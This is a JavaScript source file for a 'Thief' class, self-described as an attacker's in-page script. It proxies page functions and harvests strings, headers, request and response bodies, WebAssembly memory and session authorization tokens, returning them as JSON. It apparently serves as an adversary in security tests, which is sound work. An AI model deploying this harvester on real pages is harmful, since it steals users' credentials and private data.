// An attacker's script that takes everything it can reach in a page: it searches it at once, keeps
// it, and searches again later. It runs in the page, as any other script there.

const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
const { setTimeout } = globalThis;

/** The length below which strings in binary data are ignored. */
const SHORTEST = 8;

export class Thief {
  /** @type {Set<string>} */
  #strings = new Set();
  /** @type {Set<object>} */
  #held = new Set();
  /** @type {WeakMap<object, object>} */
  #proxies = new WeakMap();
  /** The sources that are searched repeatedly. @type {(() => unknown)[]} */
  #sources = [];
  /** True while the thief is at work: then its patches do nothing of their own. */
  #busy = false;

  /** @param {() => void} work */
  #work(work) {
    this.#busy = true;
    try {
      work();
    } finally {
      this.#busy = false;
    }
  }

  /** Sees every value that goes into a function, a constructor or an accessor, or comes out of it.
   * @param {object} owner @param {PropertyKey} name */
  spyOn(owner, name) {
    let from = owner;
    while (from && !getOwnPropertyDescriptor(from, name)) from = Object.getPrototypeOf(from);
    const property = from && getOwnPropertyDescriptor(from, name);
    if (!property) throw new Error(`There is no ${String(name)}`);
    for (const member of /** @type {const} */ (['value', 'get'])) {
      if (typeof property[member] === 'function') property[member] = this.proxyOf(property[member]);
    }
    defineProperty(owner, name, property);
  }

  /** Spies on all functions of a prototype. @param {any} prototype @param {PropertyKey[]} [but] */
  spyOnAll(prototype, but = []) {
    for (const name of ownKeys(prototype)) {
      const isFunction = typeof getOwnPropertyDescriptor(prototype, name)?.value === 'function';
      if (isFunction && name !== 'constructor' && !but.includes(name)) this.spyOn(prototype, name);
    }
  }

  /** @template {Function} F @param {F} original @returns {F} */
  proxyOf(original) {
    const before = this.#proxies.get(original);
    if (before) return /** @type {any} */ (before);
    const proxy = new Proxy(original, {
      apply: (call, self, values) =>
        this.#pass(values, self, (seen) => apply(/** @type {any} */ (call), self, seen)),
      construct: (call, values, target) =>
        this.#pass(values, undefined, (seen) => construct(/** @type {any} */ (call), seen, target)),
    });
    this.#work(() => this.#proxies.set(original, proxy).set(proxy, proxy));
    return proxy;
  }

  /** @param {any[]} values @param {unknown} self @param {(values: any[]) => any} call */
  #pass(values, self, call) {
    if (this.#busy) return call(values);
    this.#work(() => {
      this.#take(self);
      for (let i = 0; i < values.length; i++) {
        this.#take(values[i]);
        if (typeof values[i] === 'function') values[i] = this.proxyOf(values[i]);
      }
    });
    let result = call(values);
    this.#work(() => {
      this.#take(result);
      if (typeof result === 'function') result = this.proxyOf(result);
      if (result instanceof ReadableStream && !result.locked) result = this.#tapped(result);
    });
    return result;
  }

  /** @param {ReadableStream<Uint8Array>} stream */
  #tapped(stream) {
    return stream.pipeThrough(
      new TransformStream({
        transform: (chunk, controller) => {
          this.take(chunk.slice());
          controller.enqueue(chunk);
        },
      }),
    );
  }

  /** Takes values from a getter or a setter of the thief's own. @param {unknown[]} values */
  take(...values) {
    if (!this.#busy) this.#work(() => values.forEach((value) => this.#take(value)));
  }

  /** @param {() => unknown} source returns the values to take whenever the thief searches */
  watch(source) {
    this.#sources.push(source);
  }

  /** Searches everything again. */
  async look() {
    this.#work(() => {
      for (const source of this.#sources) this.#take(source());
      for (const object of this.#held) this.#inspect(object, 3);
    });
    // Reads that are under way get their turn: a held promise may be pending for ever.
    await new Promise((resolve) => setTimeout(resolve));
  }

  /** @returns {string} every string that the thief has got, as JSON */
  report() {
    let text = '';
    this.#work(() => (text = JSON.stringify([...this.#strings])));
    return text;
  }

  /** @param {unknown} value */
  #take(value) {
    if (typeof value === 'string') this.#strings.add(value);
    if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return;
    if (this.#held.has(value) || value === globalThis || value instanceof globalThis.Node) return;
    this.#held.add(value);
    this.#inspect(value, 3);
  }

  /** @param {Promise<unknown>} promise */
  #read(promise) {
    promise.then(
      (value) => this.take(value),
      () => {},
    );
  }

  /** @param {any} object @param {number} depth */
  #inspect(object, depth) {
    if (object instanceof WebAssembly.Memory) this.#bytes(new Uint8Array(object.buffer));
    else if (object instanceof ArrayBuffer) this.#bytes(new Uint8Array(object));
    else if (ArrayBuffer.isView(object)) {
      this.#bytes(new Uint8Array(object.buffer, object.byteOffset, object.byteLength));
    } else if (object instanceof Headers) {
      for (const [, value] of object) this.#strings.add(value);
    } else if (object instanceof Request || object instanceof Response) {
      this.#inspect(object.headers, 1);
      if (!object.bodyUsed && object.body && !object.body.locked) {
        this.#read(object.clone().text());
      }
    } else if (object instanceof WebAssembly.Instance) {
      this.#take(object.exports);
    } else if (object instanceof Event) {
      this.#take(object.target);
      this.#take(/** @type {CustomEvent} */ (object).detail);
    } else if (object instanceof Promise) {
      this.#read(object);
    } else if (object instanceof Map || object instanceof Set) {
      for (const entry of object) this.#members([entry], depth);
    } else if (object instanceof EventTarget && 'authorization' in object) {
      // The object is the session itself.
      this.#take(/** @type {any} */ (object).authorization());
    }
    this.#members(object, depth);
  }

  /** @param {any} object @param {number} depth */
  #members(object, depth) {
    if (ArrayBuffer.isView(object)) return;
    for (const name of ownKeys(object)) {
      const value = getOwnPropertyDescriptor(object, name)?.value;
      if (typeof value === 'string') this.#strings.add(value);
      if (depth > 0 && value && typeof value === 'object' && value !== globalThis) {
        this.#inspect(value, depth - 1);
      }
    }
  }

  /** @param {Uint8Array} bytes */
  #bytes(bytes) {
    let text = '';
    for (let i = 0; i <= bytes.length; i++) {
      const byte = bytes[i] ?? 0;
      if (byte >= 32 && byte < 127) text += String.fromCharCode(byte);
      else {
        if (text.length >= SHORTEST) this.#strings.add(text);
        text = '';
      }
    }
  }
}
